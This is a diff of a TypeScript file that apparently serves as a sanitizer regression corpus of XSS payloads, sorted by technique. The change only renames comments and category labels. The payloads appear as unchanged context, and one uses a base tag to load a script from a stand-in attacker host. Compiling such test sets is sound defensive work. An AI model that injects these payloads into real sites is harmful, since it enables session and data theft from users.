@@ -1,6 +1,6 @@
 /**
- * Ways to get a script into a page that takes HTML or text from people, by technique. Each of them calls alert, confirm, prompt or
- * print where it works. Some work in no browser of today: what was possible once is tried again here.
+ * XSS payloads for HTML and text input, by technique. Each calls alert, confirm, prompt or print when it runs.
+ * Some run in no current browser and are kept for regressions.
  */
 const byTechnique: Record<string, string[]> = {
   scripts: [
@@ -31,7 +31,7 @@ const byTechnique: Record<string, string[]> = {
     '<svg><script href="data:text/javascript,alert(1)"/></svg>',
     '<svg><script xlink:href="data:text/javascript,alert(1)"/></svg>',
   ],
-  'events that come by themselves': [
+  'events without interaction': [
     '<img src=x onerror=alert(1)>',
     '<img src=x onerror=alert`1`>',
     '<img src=x onerror="alert(1)" alt="a">',
@@ -86,7 +86,7 @@ const byTechnique: Record<string, string[]> = {
     '<x autofocus tabindex=1 onfocus=alert(1)>a</x>',
     '<a autofocus tabindex=1 href=x onfocus=alert(1)>a</a>',
   ],
-  'events that somebody causes': [
+  'events caused by interaction': [
     '<p onclick=alert(1)>a</p>',
     '<a onclick=alert(1)>a</a>',
     '<b onmouseover=alert(1)>a</b>',
@@ -207,7 +207,7 @@ const byTechnique: Record<string, string[]> = {
     '<bgsound src="javascript:alert(1)">',
     '<input type=image src="javascript:alert(1)">',
   ],
-  'pages inside pages': [
+  'nested documents': [
     '<iframe src="javascript:alert(1)"></iframe>',
     '<iframe src="java&#10;script:alert(1)"></iframe>',
     '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
@@ -229,7 +229,7 @@ const byTechnique: Record<string, string[]> = {
     '<portal src="javascript:alert(1)"></portal>',
     '<fencedframe src="javascript:alert(1)"></fencedframe>',
   ],
-  'what changes the page around it': [
+  'elements that change their page': [
     '<base href="javascript:/"><a href="alert(1)">a</a>',
     '<base href="https://evil.example/"><script src="/a.js"></script>',
     '<base target="_top"><a href="javascript:alert(1)">a</a>',
@@ -267,7 +267,7 @@ const byTechnique: Record<string, string[]> = {
     '<style>/*</style><svg onload=alert(1)>*/</style>',
     '<p style="&quot;onclick=alert(1) x=&quot;">a</p>',
   ],
-  'comments and what looks like them': [
+  'comments and similar syntax': [
     '<!--><img src=x onerror=alert(1)>-->',
     '<!---><img src=x onerror=alert(1)>-->',
     '<!--!><img src=x onerror=alert(1)>--!>',
@@ -287,7 +287,7 @@ const byTechnique: Record<string, string[]> = {
     '</ a="><img src=x onerror=alert(1)>">',
     '<% <img src=x onerror=alert(1)> %>',
   ],
-  'text that turns into tags when it is read a second time': [
+  'text that becomes tags when parsed twice (mutation XSS)': [
     '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
     '<noscript><style></noscript><img src=x onerror=alert(1)></style>',
     '<noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed>',
@@ -328,7 +328,7 @@ const byTechnique: Record<string, string[]> = {
     '<td colspan="1&quot; onclick=&quot;alert(1)">a</td>',
     '<th scope=\'col" onclick="alert(1)\'>a</th>',
   ],
-  'letters and codes': [
+  'characters and encodings': [
     '&lt;script&gt;alert(1)&lt;/script&gt;',
     '&lt;img src=x onerror=alert(1)&gt;',
     '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
@@ -361,7 +361,7 @@ const byTechnique: Record<string, string[]> = {
     '\ufeff<script>alert(1)</script>',
     '<img src="x\ud800" onerror=alert(1)>',
   ],
-  'quotes and values': [
+  'quotes and attribute values': [
     '"><script>alert(1)</script>',
     "'><script>alert(1)</script>",
     '"><img src=x onerror=alert(1)>',
@@ -393,7 +393,7 @@ const byTechnique: Record<string, string[]> = {
     '[a](javascript:alert(1))',
     '![a](x"onerror="alert(1))',
   ],
-  'names that shadow those of the page': [
+  'names that shadow properties of the page (DOM clobbering)': [
     '<form name=body><input name=innerHTML></form><img src=x onerror=alert(1)>',
     '<form id=attributes><input name=attributes></form><a id=attributes onclick=alert(1)>a</a>',
     '<form onclick=alert(1)><input name=attributes>a</form>',
